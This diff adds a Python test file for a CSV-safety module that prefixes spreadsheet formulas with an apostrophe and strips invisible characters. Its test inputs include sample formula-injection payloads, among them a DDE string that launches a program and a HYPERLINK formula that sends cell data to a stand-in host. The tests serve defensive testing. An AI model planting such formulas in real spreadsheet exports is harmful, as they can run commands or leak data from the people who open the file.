@@ -1,0 +1,56 @@
+"""Text that is safe in spreadsheets."""
+
+import unicodedata
+
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+from limner.reports.csv_safety import clean_text, csv_cell
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "=1+1",
+        "+1",
+        "-1",
+        "@SUM(A1)",
+        "\t=1",
+        "\r=1",
+        "\n=1",
+        "   =1",
+        "\u00a0=1",
+        "＝1+1",  # noqa: RUF001 - full-width equals sign
+        "＋1",  # noqa: RUF001 - full-width plus
+        "−1",
+        "\tharmless",
+        '=HYPERLINK("http://x.example?"&A1,"click")',
+        "=cmd|' /C calc'!A0",
+    ],
+)
+def test_a_formula_gets_an_apostrophe(text: str) -> None:
+    assert csv_cell(text).startswith("'")
+
+
+@pytest.mark.parametrize("text", ["", "water", "a=b", "snow/ice", "12", "a - b", "Größe", "水"])
+def test_other_text_stays_as_it_is(text: str) -> None:
+    assert csv_cell(text) == text
+
+
+def test_no_formula_after_a_semicolon() -> None:
+    assert csv_cell("calm; =1+1;+2") == "calm; '=1+1;'+2"
+
+
+def test_invisible_characters_become_visible() -> None:
+    assert clean_text("a\r\nb\tc") == "a  b c"
+    assert clean_text("evil\u202etxt.exe\u200b\u0000\ud800") == "evil\ufffdtxt.exe\ufffd\ufffd\ufffd"
+
+
+@given(st.text(alphabet=st.characters(), max_size=40))
+@settings(deadline=None, derandomize=True)
+def test_any_text_becomes_one_visible_line(text: str) -> None:
+    safe = csv_cell(text)
+    assert len(safe.splitlines()) <= 1
+    assert not any(unicodedata.category(c) in {"Cc", "Cf", "Cs", "Zl", "Zp"} for c in safe)
+    assert safe.lstrip()[:1] not in set("=+-@＝＋－＠")  # noqa: RUF001 - full-width forms
+    safe.encode("utf-8")
